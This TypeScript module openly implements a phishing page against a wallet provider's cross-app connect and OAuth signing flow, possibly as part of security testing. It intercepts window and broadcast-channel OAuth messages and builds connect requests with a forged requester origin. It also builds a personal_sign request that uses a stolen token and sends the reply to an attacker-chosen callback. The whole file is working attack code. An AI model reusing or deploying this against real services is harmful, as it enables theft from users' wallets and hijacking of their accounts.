/**
 * A phishing page on an origin of its own. It wants what a provider app grants only to its listed requesters: a
 * connection to its users' wallets, or their signatures. Its visitor presses whatever it shows.
 */

/** The attack's target, as the page knows it. */
export interface Prey {
  readonly serviceUrl: string;
  readonly providerAppId: string;
  /** An origin that the provider app allows to send requests. */
  readonly listedOrigin: string;
  /** A provider token that was stolen from a page of that origin. */
  readonly token: string;
  /** Address of the wallet from which the page wants a signature. */
  readonly wallet: string;
  /** Compressed secp256k1 public key in base64. The page has its private key. */
  readonly publicKey: string;
}

/**
 * Records in `window.heard`, as JSON, the window messages that the page receives and those of three broadcast
 * channels. Runs in the page.
 */
export function listen(): void {
  const heard: string[] = [];
  Object.assign(window, { heard });
  window.addEventListener('message', ({ data, origin }) => heard.push(JSON.stringify({ data, origin })));
  for (const name of ['popup-privy-oauth', 'privy-oauth', 'latchkey'])
    new BroadcastChannel(name).addEventListener('message', ({ data }) =>
      heard.push(JSON.stringify({ data, name })),
    );
}

/** Returns the address that requests a connection in the name of an origin. */
export function connectAddress(prey: Prey, origin: string): string {
  const url = new URL('/cross-app/connect', prey.serviceUrl);
  const query = {
    requester_public_key: prey.publicKey,
    connect: 'true',
    provider_app_id: prey.providerAppId,
    requester_origin: origin,
    smart_wallet_mode: 'false',
  };
  for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
  return url.href;
}

/** Returns the address that requests a signature with the stolen token and names the page that gets the reply. */
export function transactAddress(
  prey: Prey,
  callbackUrl: string,
  timestamp: number,
  message = 'Give me all',
): string {
  const url = new URL('/oauth/transact', prey.serviceUrl);
  url.searchParams.set('token', prey.token);
  const request = { method: 'personal_sign', params: [message, prey.wallet] };
  url.searchParams.set(
    'request',
    JSON.stringify({ content: { request: { request } }, timestamp, callbackUrl }),
  );
  return url.href;
}
